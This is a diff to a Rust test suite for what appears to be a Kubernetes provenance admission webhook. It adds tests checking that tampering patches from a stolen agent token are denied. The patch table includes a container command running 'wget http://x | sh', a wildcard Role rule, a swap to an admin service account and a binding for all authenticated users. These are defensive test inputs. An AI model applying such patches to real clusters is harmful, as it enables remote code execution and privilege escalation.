@@ -11,10 +11,183 @@ use sealgate_testenv::Identity;
 use crate::Test;
 use crate::env::{Env, ensure, fail};
 
-pub const TESTS: &[(&str, Test)] = &[(
-    "provenance::attested_app_admitted_and_changed_image_denied",
-    attested_app,
-)];
+pub const TESTS: &[(&str, Test)] = &[
+    (
+        "provenance::attested_app_admitted_and_changed_image_denied",
+        attested_app,
+    ),
+    (
+        "provenance::defaulted_objects_match_their_manifests_exactly",
+        defaulting_table,
+    ),
+];
+
+/// A Role and RoleBinding attested with the shop app.
+const RBAC: &str = "apiVersion: rbac.authorization.k8s.io/v1
+kind: Role
+metadata: {name: web, namespace: shop}
+rules:
+  - {apiGroups: [\"\"], resources: [configmaps], verbs: [get]}
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: RoleBinding
+metadata: {name: web, namespace: shop}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: web}
+subjects:
+  - {kind: ServiceAccount, name: default, namespace: shop}
+";
+
+/// (what, resource, JSON patch, the path the denial must name).
+const ATTACKS: &[(&str, &str, &str, &str)] = &[
+    (
+        "an added command",
+        "deployment/web",
+        r#"[{"op":"add","path":"/spec/template/spec/containers/0/command","value":["sh","-c","wget http://x | sh"]}]"#,
+        "spec.template.spec.containers.web.command",
+    ),
+    (
+        "an extra container",
+        "deployment/web",
+        // Compliant with every policy, so only provenance can refuse it.
+        r#"[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"reader","image":"registry.example.com/shop/web:1.4.2","resources":{"limits":{"cpu":"100m","memory":"64Mi"}},"securityContext":{"allowPrivilegeEscalation":false,"capabilities":{"drop":["ALL"]}}}}]"#,
+        "spec.template.spec.containers.reader",
+    ),
+    (
+        "an appended env entry",
+        "deployment/web",
+        r#"[{"op":"add","path":"/spec/template/spec/containers/0/env/-","value":{"name":"EXTRA","value":"1"}}]"#,
+        "spec.template.spec.containers.web.env.EXTRA",
+    ),
+    (
+        "an appended envFrom entry",
+        "deployment/web",
+        r#"[{"op":"add","path":"/spec/template/spec/containers/0/envFrom/-","value":{"secretRef":{"name":"other-secret"}}}]"#,
+        "spec.template.spec.containers.web.envFrom.1",
+    ),
+    (
+        "a second DB_PASSWORD from another Secret",
+        "deployment/web",
+        r#"[{"op":"add","path":"/spec/template/spec/containers/0/env/-","value":{"name":"DB_PASSWORD","valueFrom":{"secretKeyRef":{"name":"other-secret","key":"k"}}}}]"#,
+        "spec.template.spec.containers.web.env.DB_PASSWORD",
+    ),
+    (
+        "another service account",
+        "deployment/web",
+        r#"[{"op":"add","path":"/spec/template/spec/serviceAccountName","value":"admin-sa"}]"#,
+        "spec.template.spec.serviceAccountName",
+    ),
+    (
+        "an appended Role rule */*/*",
+        "role/web",
+        r#"[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]"#,
+        "rules.1",
+    ),
+    (
+        "an appended RoleBinding subject",
+        "rolebinding/web",
+        r#"[{"op":"add","path":"/subjects/-","value":{"kind":"Group","name":"system:authenticated","apiGroup":"rbac.authorization.k8s.io"}}]"#,
+        "subjects.system:authenticated",
+    ),
+];
+
+/// Kinds that live outside namespaces, among the manifests below.
+const CLUSTER_SCOPED: &[&str] = &["Namespace", "ClusterRole", "ClusterRoleBinding"];
+
+/// The defaulting table (`core/src/attest/defaults.rs`) against the real API server (issue 25,
+/// item 1): every manifest of the example repository's apps and of a table of real-world ones
+/// (`testdata/real-world.yaml`) is dry-run as the API server would store it, and the stored
+/// object must match the manifest exactly: every field it adds explained by the table, nothing
+/// else. Namespaced objects are dry-run in kube-system, which the webhook exempts.
+fn defaulting_table(env: &Env) -> Result<(), Failed> {
+    env.installed()?;
+    let mut manifests = Vec::new();
+    for app in ["examples/gitops/apps/shop", "examples/gitops/apps/legacy"] {
+        let rendered = env.kubectl_ok(
+            &Identity::Admin,
+            &["kustomize", &env.file(app).to_string_lossy()],
+        );
+        manifests.push((app.to_string(), rendered));
+    }
+    let table = std::fs::read_to_string(env.file("tests/real_cluster/testdata/real-world.yaml"))
+        .map_err(|e| fail(e.to_string()))?;
+    manifests.push(("tests/real_cluster/testdata/real-world.yaml".into(), table));
+    let mut failures = Vec::new();
+    let mut kinds = std::collections::BTreeMap::<String, usize>::new();
+    for (source, text) in &manifests {
+        let docs = sealgate_core::manifest::parse(text.as_bytes(), &Default::default())
+            .map_err(|e| fail(format!("{source}: {e}")))?;
+        for doc in docs {
+            let mut manifest = doc.value;
+            let kind = manifest["kind"].as_str().unwrap_or_default().to_string();
+            // Argo CD's Application needs its CRD, which this tier does not install.
+            if kind == "Application" {
+                continue;
+            }
+            if CLUSTER_SCOPED.contains(&kind.as_str()) {
+                // Its own name: other tests create the example's Namespace for real.
+                let name = manifest["metadata"]["name"].as_str().unwrap_or_default();
+                manifest["metadata"]["name"] = format!("{name}-dry-run").into();
+            } else {
+                manifest["metadata"]["namespace"] = "kube-system".into();
+            }
+            let stored = env
+                .cp
+                .try_kubectl_stdin(
+                    &Identity::Admin,
+                    &["create", "--dry-run=server", "-o", "json", "-f", "-"],
+                    &manifest.to_string(),
+                )
+                .map_err(|e| fail(format!("{source}: {kind} dry-run: {e}")))?;
+            let stored: serde_json::Value =
+                serde_json::from_str(&stored).map_err(|e| fail(e.to_string()))?;
+            *kinds.entry(kind.clone()).or_default() += 1;
+            if let Err(d) = sealgate_core::attest::subset::matches(
+                &manifest,
+                &stored,
+                &sealgate_core::attest::subset::Allowed::default(),
+            ) {
+                failures.push(format!(
+                    "{source}: {kind} {}: {d} (stored value: {})",
+                    manifest["metadata"]["name"],
+                    field(&stored, &d.path)
+                ));
+            }
+        }
+    }
+    println!(
+        "  defaulting table: {} manifests of {} kinds stored exactly as declared up to the table ({})",
+        kinds.values().sum::<usize>(),
+        kinds.len(),
+        kinds.keys().cloned().collect::<Vec<_>>().join(", ")
+    );
+    ensure(failures.is_empty(), || failures.join("\n"))
+}
+
+/// The value at a dotted path (list items by name or index), for a failure message: these are
+/// test manifests, not secrets.
+fn field(v: &serde_json::Value, path: &str) -> String {
+    let mut cur = v;
+    for label in path.split('.') {
+        cur = match cur {
+            serde_json::Value::Object(m) => match m.get(label) {
+                Some(x) => x,
+                None => return "?".into(),
+            },
+            serde_json::Value::Array(items) => match label.parse::<usize>() {
+                Ok(i) => match items.get(i) {
+                    Some(x) => x,
+                    None => return "?".into(),
+                },
+                Err(_) => match items.iter().find(|x| x["name"] == label) {
+                    Some(x) => x,
+                    None => return "?".into(),
+                },
+            },
+            _ => return "?".into(),
+        };
+    }
+    cur.to_string()
+}
 
 fn attested_app(env: &Env) -> Result<(), Failed> {
     env.installed()?;
@@ -43,9 +216,13 @@ fn attested_app(env: &Env) -> Result<(), Failed> {
             })
     };
     with_password(&["attest", "keygen", "--output-key-prefix", &prefix])?;
+    // RBAC beside the app: what a stolen agent token would widen.
+    let rbac = dir.join("rbac.yaml");
+    std::fs::write(&rbac, RBAC).map_err(|e| fail(e.to_string()))?;
     with_password(&[
         "lint",
         "examples/gitops/apps/shop",
+        &rbac.to_string_lossy(),
         "--attest",
         &attestations,
         "--attest-key",
@@ -108,6 +285,43 @@ fn attested_app(env: &Env) -> Result<(), Failed> {
                 f.message().unwrap_or_default()
             ))
         })?;
+        env.cp
+            .try_kubectl_stdin(
+                &Identity::Agent,
+                &[
+                    "apply",
+                    "--server-side",
+                    "--field-manager=kustomize-controller",
+                    "-f",
+                    "-",
+                ],
+                RBAC,
+            )
+            .map_err(|e| {
+                fail(format!(
+                    "the attested Role and RoleBinding were refused: {e}"
+                ))
+            })?;
+        // What a stolen agent token could add to attested objects (issue 25, item 1): each is
+        // denied, naming the path and never the value.
+        for (what, resource, patch, path) in ATTACKS {
+            let e = env
+                .try_kubectl(
+                    &Identity::Agent,
+                    &[
+                        "-n", "shop", "patch", resource, "--type", "json", "-p", patch,
+                    ],
+                )
+                .err()
+                .ok_or_else(|| fail(format!("{what} was admitted")))?;
+            ensure(
+                e.contains("[sealgate-provenance]")
+                    && e.contains(path)
+                    && !e.contains("wget")
+                    && !e.contains("other-secret"),
+                || format!("{what}: not denied naming {path} (or a value was quoted): {e}"),
+            )?;
+        }
         // The live Deployment carries the API server's defaults; it was still admitted.
         let live = env
             .get_json(&["-n", "shop", "deployment", "web"])
